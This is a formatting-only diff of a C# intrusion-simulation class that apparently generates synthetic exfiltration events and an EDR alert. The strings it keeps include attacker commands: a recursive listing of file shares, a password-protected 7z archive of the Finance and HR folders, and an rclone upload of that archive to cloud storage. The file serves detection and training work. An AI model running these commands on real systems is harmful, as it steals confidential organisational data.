@@ -21,8 +21,11 @@ internal static class Exfiltration
         var shell = scene.Run(serverImplant, intrusion.At(-4, 20, 11, 6), "cmd.exe", "cmd.exe");
         scene.Run(shell, intrusion.At(-4, 20, 11, 48), "cmd.exe", @"cmd /c dir /s /b D:\Shares > C:\ProgramData\sync\l.txt");
         var packer = scene.Run(
-            shell, intrusion.At(-4, 20, 14, 20), "7z.exe",
-            $@"7z.exe a -mx1 -v2g -pH4rb0ur {Folder}\f.7z D:\Shares\Finance D:\Shares\HR ""D:\Shares\Tarjoukset Jyväskylä""");
+            shell,
+            intrusion.At(-4, 20, 14, 20),
+            "7z.exe",
+            $@"7z.exe a -mx1 -v2g -pH4rb0ur {Folder}\f.7z D:\Shares\Finance D:\Shares\HR ""D:\Shares\Tarjoukset Jyväskylä"""
+        );
 
         for (var part = 1; part <= Parts; part++)
         {
@@ -39,8 +42,11 @@ internal static class Exfiltration
         scene.Touches(serverImplant, intrusion.At(-3, 21, 1, 9), "FileCreated", image.Folder, image.FileName, image.Content);
         var shell = scene.Run(serverImplant, intrusion.At(-3, 21, 3, 30), "cmd.exe", "cmd.exe");
         var carrier = scene.Run(
-            shell, intrusion.At(-3, 21, 4, 2), "rclone.exe",
-            $@"{image.FullPath} copy {Folder} box:jkl --include f.7z.* --transfers 4 --no-check-certificate -q");
+            shell,
+            intrusion.At(-3, 21, 4, 2),
+            "rclone.exe",
+            $@"{image.FullPath} copy {Folder} box:jkl --include f.7z.* --transfers 4 --no-check-certificate -q"
+        );
 
         var end = intrusion.At(-3, 23, 34, 0);
         for (var time = intrusion.At(-3, 21, 4, 5); time < end; time += TimeSpan.FromMinutes(3) + intrusion.Dice.Within(TimeSpan.FromSeconds(10)))
@@ -49,10 +55,20 @@ internal static class Exfiltration
         }
 
         var kind = new AlertKind(
-            "Possible data exfiltration by a file transfer tool", "Exfiltration", "Medium", AlertKind.Endpoint, "EDR",
-            "Exfiltration to Cloud Storage (T1567.002)", "Archive via Utility (T1560.001)");
-        Alert.Raise(scene, intrusion.At(-3, 21, 40, 55), kind)
-            .On(carrier.Machine).By(Account.System).Through(carrier).To(Attacker.StoreIP, $"https://{Attacker.StoreHost}/")
+            "Possible data exfiltration by a file transfer tool",
+            "Exfiltration",
+            "Medium",
+            AlertKind.Endpoint,
+            "EDR",
+            "Exfiltration to Cloud Storage (T1567.002)",
+            "Archive via Utility (T1560.001)"
+        );
+        Alert
+            .Raise(scene, intrusion.At(-3, 21, 40, 55), kind)
+            .On(carrier.Machine)
+            .By(Account.System)
+            .Through(carrier)
+            .To(Attacker.StoreIP, $"https://{Attacker.StoreHost}/")
             .About(image.Folder, image.FileName, image.Content);
     }
 }
